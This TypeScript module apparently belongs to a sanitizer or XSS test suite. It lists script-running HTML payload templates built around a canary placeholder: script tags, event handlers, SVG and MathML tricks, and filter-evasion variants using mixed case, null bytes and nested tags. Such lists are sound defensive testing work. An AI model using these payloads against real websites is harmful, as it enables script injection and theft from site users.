import type { Payloads } from './payloads.ts'

/** Elements and attributes that run scripts. */
export const ELEMENTS: Payloads = {
  'script elements': [
    '<script>%run%</script>',
    '<ScRiPt >%run%</ScRiPt >',
    '<script src=data:text/javascript,%run%></script>',
    '<script src="%url%"></script>',
    '<scr<script>ipt>%run%</scr</script>ipt><script>%run%</script>',
    '<script type=importmap>{"imports":{"x":"data:text/javascript,%run%"}}</script><script type=module>import "x"</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["%url%"]}]}</script><script>%run%</script>',
    '<scr\u0000ipt>%run%</scr\u0000ipt>',
  ],
  'event handlers': [
    '<img src=x onerror=%run%>',
    '<body onload=%run%>',
    '<iframe src=about:blank onload=%run%></iframe>',
    '<input autofocus onfocus=%run%>',
    '<details open ontoggle=%run%>x</details>',
    '<style onload=%run%></style>',
    '<div style="animation:a 1s" onanimationstart=%run%><style>@keyframes a{}</style>x</div>',
    '<IMG SRC=x OnErRoR=%run%>',
    '<img\u000Csrc=x\u000Conerror=%run%>',
    '<img src=x onerror="&#99;anary(&#39;%id%&#39;)">',
    '<img src=x onerror="import(\'data:text/javascript,canary(`%id%`)\')">',
    // This runs only after user input.
    '<b onmouseover=%run%>x</b>',
  ],
  SVG: [
    '<svg onload=%run%>',
    '<svg><script>%run%</script></svg>',
    '<svg><script href=data:,%run% /></svg>',
    '<svg><animate onbegin=%run% attributeName=x dur=1s></svg>',
    '<svg><image href=x:x onerror=%run% /></svg>',
    '<svg><foreignObject><img src=x onerror=%run%></foreignObject></svg>',
    '<svg><style><img src=x onerror=%run%></style></svg>',
    '<svg><style>@import "%url%";</style></svg>',
    '<svg><feImage href="%url%" /><filter id=f><feImage href="%url%" /></filter><rect width=9 height=9 filter=url(#f) /></svg>',
    // Scripts in images never run, and browsers no longer support `data:` in `use`.
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%run%'/>\">",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=canary(1) /></svg>#x" /></svg>',
    '<svg><a xlink:href="javascript:%run%"><text x=9 y=9>x</text></a></svg>',
  ],
  MathML: [
    '<math><mtext><img src=x onerror=%run%></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=%run%></annotation-xml></math>',
    '<math><mglyph><style><img src=x onerror=%run%>',
    '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=%run%>-->',
    '<math href="javascript:%run%">x</math>',
  ],
}
